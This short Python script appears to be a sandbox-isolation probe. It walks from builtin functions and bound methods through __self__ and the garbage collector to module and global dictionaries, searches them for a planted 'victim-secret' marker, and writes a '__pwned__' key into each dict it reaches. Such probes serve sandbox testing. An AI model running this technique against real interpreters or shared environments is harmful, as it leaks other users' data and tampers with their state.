# Follows __self__ of builtin functions and bound methods (len.__self__ is a module) to reach module dicts and globals.
import sys, gc
N = "victim-" + "secret"
LEAKED = []
for f in (len, print, sys.exit, gc.collect, [].append, "".join, {}.get, object.__init_subclass__,
          int.from_bytes, str.maketrans, (lambda: 0).__call__, iter([]).__next__):
    try:
        s = f.__self__
        for d in [getattr(s, "__dict__", None)] + [r for r in gc.get_referents(s) if isinstance(r, dict)]:
            if isinstance(d, dict) and d is not globals():
                for v in list(d.values()):
                    try:
                        if N in repr(v): LEAKED.append(v)
                    except Exception: pass
                try: d["__pwned__"] = 1
                except Exception: pass
    except Exception:
        pass
print("done")
